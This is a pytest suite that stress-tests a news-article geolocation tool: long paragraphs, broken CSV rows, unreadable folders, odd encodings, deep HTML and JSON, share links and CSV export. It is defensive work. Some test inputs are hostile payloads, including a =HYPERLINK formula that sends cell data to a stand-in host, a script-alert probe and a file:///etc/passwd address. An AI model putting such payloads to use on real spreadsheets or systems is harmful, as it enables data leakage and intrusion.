"""Issue #14, trying to break it: long text, broken batches, skipped files, odd encodings, deep HTML, hostile
cells and share links. Real files, a real store, the real parser; each test names what must hold."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import sqlite3
import tempfile
from pathlib import Path

import pytest
from helpers import cli_runner

import geo.cli.main
from geo.export.records import FORMULA_STARTS
from geo.ingest.batch import read_target
from geo.ingest.readers import Failure, RawArticle, Skipped, read_path
from geo.ingest.workflow import ingest_items
from geo.parse.text import MAX_PARAGRAPH_CHARS, paragraphs, windows
from geo.store.db import Store
from geo.ui.view import ViewState

SENTENCE = "Une frappe de drones a touché Kharkiv lundi soir, selon la mairie de la ville. "
TEXTS = [
    "Protest in Lyon\n\nThousands of people marched in Lyon on Saturday against the pension reform.",
    "Frappe sur Kharkiv\n\nUne frappe de drones a touché Kharkiv lundi soir selon la mairie.",
    "Talks in Geneva\n\nThe ministers met in Geneva on Tuesday for peace talks.",
    "Explosion in Odesa\n\nAn explosion hit the port of Odesa on Sunday morning, officials said.",
]


@pytest.fixture
def cli(pipeline, monkeypatch, capsys, tmp_path):
    monkeypatch.setattr(geo.cli.main, "_pipeline", lambda: pipeline)
    return cli_runner(tmp_path / "events.db", capsys)


def titles(db: Path) -> list[str]:
    with contextlib.closing(sqlite3.connect(db)) as conn:
        return [t for (t,) in conn.execute("SELECT title FROM articles ORDER BY title")]


# ---------------------------------------------------------------- 1, 2: long text


def test_windows_cut_long_paragraphs_at_sentence_ends_and_lose_no_word():
    text = SENTENCE * 1000  # 80,000 characters, no line break
    spans = windows(text)
    assert all(0 < e - s <= MAX_PARAGRAPH_CHARS for s, e in spans)
    assert all(text[e - 1] == "." for s, e in spans)  # cut after a full stop, not inside a word
    assert " ".join(text[s:e] for s, e in spans).split() == text.split()
    hard = "x" * 25_000  # no space at all: cut all the same
    assert [(s, e) for s, e in windows(hard)] == [(0, 10_000), (10_000, 20_000), (20_000, 25_000)]
    # Paragraphs of an article as written are left as they are.
    short = "Titre de l'article\n\n" + SENTENCE * 3
    assert [p.text for p in paragraphs(short)] == ["Titre de l'article", (SENTENCE * 3).strip()]


@pytest.mark.slow
def test_parse_reads_a_paragraph_longer_than_the_models_limit(cli, tmp_path):
    text = SENTENCE * (1_010_000 // len(SENTENCE) + 1)  # one paragraph over spaCy's 1,000,000 characters
    path = tmp_path / "long.txt"
    path.write_text(text, encoding="utf-8")
    code, out, err = cli("parse", str(path), "--lang", "fr", "--published", "2025-02-18")
    assert code == 0, err
    (result,) = [json.loads(line) for line in out.splitlines()]
    kharkiv = [m for m in result["mentions"] if m["name"] == "Kharkiv"]
    assert kharkiv and max(m["start"] for m in kharkiv) > 1_000_000  # the end of the text was read too
    assert all(text[m["start"]:m["end"]] == m["text"] for m in result["mentions"])


@pytest.mark.slow
def test_a_csv_batch_with_a_1_mb_field_is_ingested_with_the_rest(cli, tmp_path):
    long_text = SENTENCE * (1_048_576 // len(SENTENCE.encode()) + 1)  # 1 MB, under the 5 MB article limit
    path = tmp_path / "batch.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "title", "text", "published"])
        writer.writerow(["1", "Long", long_text, "2025-02-17"])
        writer.writerow(["2", "Short", TEXTS[0], "2025-02-18"])
    assert path.stat().st_size > 1_048_576
    code, out, err = cli("ingest", str(path), "--lang", "fr")
    assert code == 0, err
    assert "summary: 2 ingested, 0 skipped as duplicate, 0 failed" in err
    assert titles(cli.db) == ["Long", "Short"]


# ---------------------------------------------------------------- 4: CSV with an unclosed quote


def test_a_csv_row_with_an_unclosed_quote_is_named_and_the_rows_after_it_are_kept(cli, tmp_path):
    path = tmp_path / "batch.csv"
    path.write_text(
        "id,title,text\n"
        f'1,Lyon,"{TEXTS[0]}"\n'  # lines 2-4
        '2,Broken,"An unclosed quote, and the rest of the line\n'  # line 5
        f'3,Geneva,"{TEXTS[2]}"\n'  # lines 6-8
        f"4,Kharkiv,{TEXTS[1].replace(chr(10), ' ')}\n"  # line 9
        '5,Odesa,"' + TEXTS[3] + '"\n', encoding="utf-8")
    code, out, err = cli("ingest", str(path))
    assert code == 3
    assert f"{path} line 5: broken CSV row" in err and "unclosed quote" in err
    assert "summary: 4 ingested, 0 skipped as duplicate, 1 failed" in err
    assert titles(cli.db) == ["Geneva", "Kharkiv", "Lyon", "Odesa"]


def test_a_quote_never_closed_is_named_and_the_lines_after_it_are_rows_again():
    text = 'id,text\n1,"never closed\n2,Une frappe a touché Kharkiv.\n3,Un sommet à Genève.\n'
    items = list(read_target_text(text))
    assert [type(i).__name__ for i in items] == ["Failure", "RawArticle", "RawArticle"]
    assert "line 2: broken CSV row (unexpected end of data" in items[0].reason


def read_target_text(text: str, name: str = "x.csv"):
    from geo.ingest.batch import read_upload

    return read_upload(name, text.encode("utf-8"))


# ---------------------------------------------------------------- 5: nothing skipped without a word


@contextlib.contextmanager
def as_nobody():
    """Run as an unprivileged user when root (root reads any folder: a locked one would not be locked)."""
    if os.geteuid() != 0:
        yield
        return
    os.seteuid(65534)
    try:
        yield
    finally:
        os.seteuid(0)


def test_ingest_dir_names_every_file_it_does_not_read(cli, tmp_path):
    folder = tmp_path / "articles"
    (folder / "sub").mkdir(parents=True)
    (folder / "a.txt").write_text(TEXTS[0], encoding="utf-8")
    (folder / "sub" / "b.md").write_text(TEXTS[2], encoding="utf-8")
    (folder / "sub" / "up").symlink_to(folder, target_is_directory=True)  # a loop back to the top
    (folder / "gone.txt").symlink_to(tmp_path / "nowhere.txt")
    (folder / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (folder / "README.md").write_text("notes", encoding="utf-8")
    (folder / "list.json").write_text(json.dumps([{"title": "no text"}, {"text": TEXTS[1]}]), encoding="utf-8")
    (folder / "rows.csv").write_text(f'id,text\n9,"{TEXTS[3]}"\n', encoding="utf-8")
    code, out, err = cli("ingest", str(folder), "--published", "2025-02-18")
    assert code == 3
    assert out.count("ingested\t") == 4  # a.txt, sub/b.md, list.json[1], rows.csv line 2
    assert f"{folder}/sub/up: a symbolic link back to a folder already read" in err
    assert f"{folder}/gone.txt: a symbolic link to nothing" in err
    assert f"{folder}/list.json[0]: no \"text\"" in err
    assert f"not read\t{folder}/photo.png" in err and f"not read\t{folder}/README.md" in err
    assert "summary: 4 ingested, 0 skipped as duplicate, 3 failed, 2 not read (not articles)" in err


def test_an_unreadable_sub_folder_is_named_and_the_rest_is_ingested(pipeline):
    top = Path(tempfile.mkdtemp(prefix="geo-locked-"))
    try:
        os.chmod(top, 0o755)
        (top / "a.txt").write_text(TEXTS[0], encoding="utf-8")
        (top / "locked").mkdir()
        (top / "locked" / "c.txt").write_text(TEXTS[2], encoding="utf-8")
        os.chmod(top / "a.txt", 0o644)
        os.chmod(top / "locked", 0)
        with as_nobody():
            items = list(read_target(str(top)))
        with Store(top / "events.db") as store:
            summary = ingest_items(items, pipeline, store)
        assert summary.ingested == 1
        (failure,) = summary.failures
        assert failure.name == str(top / "locked") and "cannot read this folder" in failure.reason
    finally:
        os.chmod(top / "locked", 0o755)
        shutil.rmtree(top)


def test_parse_dir_parses_the_good_files_and_names_the_bad_one(cli, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(TEXTS[1], encoding="utf-8")
    (folder / "b.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00")
    (folder / "c.txt").write_text(TEXTS[2], encoding="utf-8")
    code, out, err = cli("parse", str(folder))
    assert code == 3
    assert len(out.splitlines()) == 2 and "Kharkiv" in out and "Geneva" in out
    assert f"{folder}/b.txt: binary file" in err


def test_one_bad_item_of_a_json_list_is_named_and_the_others_are_read(tmp_path):
    path = tmp_path / "list.json"
    path.write_text(json.dumps([{"text": TEXTS[0]}, {"text": 5}, "nothing", {"text": TEXTS[2],
                                                                             "published": "yesterday"}]))
    items = read_path(path)
    assert [type(i).__name__ for i in items] == ["RawArticle", "Failure", "Failure", "Failure"]
    assert [i.name for i in items] == [f"{path}[{n}]" for n in range(4)]
    assert "'yesterday' is not a date" in items[3].reason


# ---------------------------------------------------------------- 6: valid text refused


@pytest.mark.parametrize("encoding, text", [
    ("utf-16-le", "Une frappe de drones a touché Kharkiv lundi soir, selon la mairie de la ville."),
    ("utf-16-be", "Drones struck an oil depot in Lyudinovo on Monday, the regional governor said."),
    ("cp1251", "Беспилотники атаковали нефтебазу в Людиново в понедельник, сообщил губернатор области."),
    ("cp1252", "Une manifestation a réuni des milliers de personnes à Besançon samedi, selon la préfecture."),
])
def test_text_in_another_encoding_is_detected_not_refused(tmp_path, encoding, text):
    path = tmp_path / "article.txt"
    path.write_bytes(text.encode(encoding))  # no byte-order mark
    (article,) = read_path(path)
    assert article.text == text


def test_an_html_page_nested_300_deep_is_read(tmp_path):
    body = "<p>Une frappe de drones a touché Kharkiv lundi soir, selon la mairie de la ville ukrainienne.</p>"
    page = ("<!doctype html><html><head><title>Frappe sur Kharkiv</title></head><body>"
            + "<div>" * 300 + body + "</div>" * 300 + "</body></html>")
    path = tmp_path / "deep.html"
    path.write_text(page, encoding="utf-8")
    (article,) = read_path(path)
    assert "touché Kharkiv lundi soir" in article.text and article.title == "Frappe sur Kharkiv"


def test_a_page_too_deep_for_the_extractor_still_gives_its_words(tmp_path):
    page = "<html><body>" + "<div>" * 5000 + "<p>Un sommet s'est tenu à Genève mardi.</p>" + "</div>" * 5000
    path = tmp_path / "deeper.html"
    path.write_text(page + "<script>alert(1)</script></body></html>", encoding="utf-8")
    (article,) = read_path(path)
    assert "Un sommet s'est tenu à Genève mardi." in article.text and "alert" not in article.text


# ---------------------------------------------------------------- 7: share links


@pytest.mark.parametrize("query", [{"zoom": "²"}, {"step": "٣"}, {"zoom": "1" * 5000}, {"from": "２０２５-01-01"},
                                   {"lat": "1e999", "lon": "nan"}, {"q": "\ud800"}])
def test_odd_share_links_give_a_view_and_a_notice(query):
    view, notices = ViewState.from_query(query)
    assert isinstance(view, ViewState)
    assert notices or view.q  # "\ud800" is kept as a search, made safe for a link
    assert ViewState.from_query(view.to_query())[0] == view


# ---------------------------------------------------------------- 8: formula injection


@pytest.mark.slow
def test_events_csv_neutralises_cells_a_spreadsheet_would_run(cli, tmp_path):
    path = tmp_path / "a.txt"
    path.write_text("+Une frappe de drones a touché Kharkiv lundi soir, selon la mairie.\n\n"
                    "@Une autre frappe a touché Odessa mardi matin, selon les autorités.", encoding="utf-8")
    code, _, err = cli("ingest", str(path), "--title", '=HYPERLINK("http://x.test/?"&A1,"clic")',
                       "--published", "2025-02-18", "--lang", "fr")
    assert code == 0, err
    code, out, _ = cli("events", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    cells = [cell for r in rows for cell in r.values()]
    assert rows and any(cell.startswith(("'+", "'@", "'=")) for cell in cells)  # neutralised, not dropped
    for r in rows:
        for column, cell in r.items():
            if column not in ("lat", "lon", "confidence"):
                assert not cell.startswith(FORMULA_STARTS), (column, cell)


def test_every_kind_of_formula_start_is_neutralised():
    from geo.export.records import to_csv

    starts = ["=1+2", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "plain", "'quoted"]
    rows = [{"id": str(i), "sentence": s, "headline": s, "sources": [s], "lat": -3.5, "lon": -10.0}
            for i, s in enumerate(starts)]
    read = list(csv.DictReader(io.StringIO(to_csv(rows), newline="")))
    assert [r["sentence"] for r in read] == ["'=1+2", "'+1", "'-1+2", "'@SUM(A1)", "'\tx", "'\nx", "plain", "'quoted"]
    assert [r["sources"] for r in read] == [r["sentence"] for r in read]
    assert {r["lat"] for r in read} == {"-3.5"}  # numbers stay numbers


def test_item_kinds_are_failures_or_articles():
    assert issubclass(Skipped, Failure) and Skipped("x", "y").exit_code == 0
    assert RawArticle("t", "n").published_how == "given"


def test_a_pipe_given_as_input_is_named_not_read_for_ever(cli, tmp_path):
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    code, out, err = cli("ingest", str(fifo))
    assert code == 3 and "not a regular file" in err


def test_json_nested_too_deeply_is_a_named_failure(tmp_path):
    from geo.ingest.batch import read_jsonl

    deep = b"[" * 100_000 + b"]" * 100_000
    (item,) = read_jsonl([deep + b"\n"], "deep.jsonl")
    assert isinstance(item, Failure) and "nested too deeply" in item.reason
    path = tmp_path / "deep.json"
    path.write_bytes(deep)
    (item,) = read_target(str(path))
    assert isinstance(item, Failure) and "nested too deeply" in item.reason


def test_a_file_or_ftp_address_is_named_as_not_fetched_not_as_a_missing_file():
    from geo.errors import InputError
    from geo.ingest.readers import walk

    for address in ("file:///etc/passwd", "ftp://example.org/a.txt"):
        with pytest.raises(InputError, match="addresses are not fetched"):
            list(walk(Path(address)))
